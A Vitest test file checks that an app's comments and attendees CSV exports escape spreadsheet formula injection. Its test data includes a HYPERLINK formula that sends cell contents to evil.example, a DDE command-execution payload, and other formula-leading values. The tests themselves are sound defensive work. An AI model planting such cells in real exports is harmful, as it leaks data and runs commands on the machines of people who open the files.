import crypto from "node:crypto";
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "#app/utils/db.server";
import { startTestServer, type TestServer } from "../../test/helpers/app-server";
import { createProposal } from "../../test/helpers/consultations";
import { createUser, getPage, signedInUser, uniqueEmail } from "../../test/helpers/factories";
import { createMeeting } from "../../test/helpers/meetings";

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

// What a spreadsheet would run as a formula if the cell began with it.
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")';

describe("CSV exports never carry a cell a spreadsheet would run as a formula", () => {
  it("comments export: formula text, names and organisations are kept as text", async () => {
    const { proposal } = await createProposal();
    const commissioner = await signedInUser({ roles: ["COMMISSIONER"] });
    const { user: author } = await createUser({ displayName: "@SUM(1+1)" });
    await db.user.update({ where: { id: author.id }, data: { organisation: "+44 cmd|' /C calc'!A0" } });
    await db.comment.create({ data: { proposalId: proposal.id, versionId: proposal.versions[0].id, authorId: author.id, body: FORMULA, onBehalfOf: "-2+3" } });

    const csv = await (await getPage(`${server.url}/manage/proposals/${proposal.slug}/comments.csv`, commissioner.cookie)).text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")"`);
    expect(csv).toContain(",'@SUM(1+1),");
    expect(csv).toContain(",'+44 cmd|' /C calc'!A0,");
    expect(csv).toContain(",'-2+3,");
    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
  });

  it("attendees export: a registrant's name and other needs are kept as text", async () => {
    const meeting = await createMeeting();
    const organiser = await signedInUser({ roles: ["FORUM_OFFICER"] });
    await db.registration.create({
      data: {
        meetingId: meeting.id,
        name: "=1+1",
        email: uniqueEmail("formula"),
        code: crypto.randomBytes(4).toString("hex").toUpperCase(),
        cancelTokenHash: crypto.randomUUID(),
        status: "CONFIRMED",
        accessOther: "\t=cmd",
      },
    });
    const csv = await (await getPage(`${server.url}/meetings/${meeting.slug}/attendees.csv`, organiser.cookie)).text();
    expect(csv).toContain(",'=1+1,");
    expect(csv).toContain(`'\t=cmd`);
    expect(csv).not.toMatch(/(^|,)"?[=+@\t-]/m);
  });

  it("every CSV is written through the one helper that escapes formulas", () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const file = path.join(dir, name);
        if (statSync(file).isDirectory()) walk(file);
        else if (/\.tsx?$/.test(name) && !name.endsWith(".test.ts") && file !== path.join("app", "utils", "csv.server.ts")) {
          if (readFileSync(file, "utf8").includes("csv-stringify")) offenders.push(file);
        }
      }
    };
    walk("app");
    walk("server");
    expect(offenders).toEqual([]);
  });
});
